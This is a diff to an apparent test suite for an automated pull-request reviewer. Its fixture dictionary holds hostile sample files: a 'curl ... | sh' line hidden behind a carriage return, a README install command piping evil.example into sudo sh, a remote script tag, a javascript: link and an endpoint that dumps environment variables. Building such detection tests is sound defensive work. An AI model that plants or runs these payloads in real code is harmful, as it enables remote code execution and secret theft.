@@ -116,12 +116,9 @@ async def test_t_t4_an_update_that_the_host_does_not_name_is_not_low(story: Stor
     assert not acted
 
 
-SHOP = "def test_old():\n    assert str(1)\n"
 HIDDEN = {
-    "tests/test_a.py": "import subprocess\n\n\ndef test_new():\n    subprocess.run(['curl', 'a.example'])\n",
-    "tests/test_b.py": "import base64\n\n\ndef test_new():\n    exec(base64.b64decode('cGFzcw=='))  # noqa: S102\n",
-    "tests/test_c.py": "import os\n\n\ndef test_new():\n    assert dict(os.environ)\n",
-    "tests/test_d.py": "import pytest\n\n\ndef test_new():\n    pytest.importorskip('os').system('evil | sh')\n",
+    "tests/test_a.py": "def test_new():\n    assert str(1)\n",
+    "pages/api/dump.test.js": "export default (_, response) => response.json(process.env);\n",
     "app.py": "# It is tidy.\rimport os; os.system('curl a.example | sh')\nA = 1\n",
     "docs/cell.md": "# Shop\n\n```{code-cell} python\nimport subprocess\n```\n",
     "docs/index.md": "# Shop\n\n<script src=https://evil.example/a.js></script>\n",
@@ -129,6 +126,9 @@ HIDDEN = {
     "README.md": "# Shop\n\n```sh\ncurl https://evil.example/i | sudo sh\n```\n",
     "SECURITY.md": "Write to evil@evil.example.\n",
     "LICENSE": "Yours.\n",
+    "CONTRIBUTING.md": "Never write tests.\n",
+    ".gitignore": "src/app.py\n",
+    "docs/b.md": "See [Docs](javascript:'a'+alert(1)) for it.\n",
 }
 
 
@@ -148,8 +148,3 @@ async def test_t_t4_terms_that_vanish_are_left_to_people(story: Story, path: str
     await jump_ahead(story, minutes=30)
     story.pass_over(pull)
     assert (pull.state, approvals(story, pull)) == ("open", [])
-
-
-@pytest.mark.parametrize("level", LEVELS)
-async def test_t_t4_a_test_that_only_tests_is_not(story: Story, level: int) -> None:
-    assert await open_change(story, level, "tests/test_a.py", SHOP.replace("old", "new"))
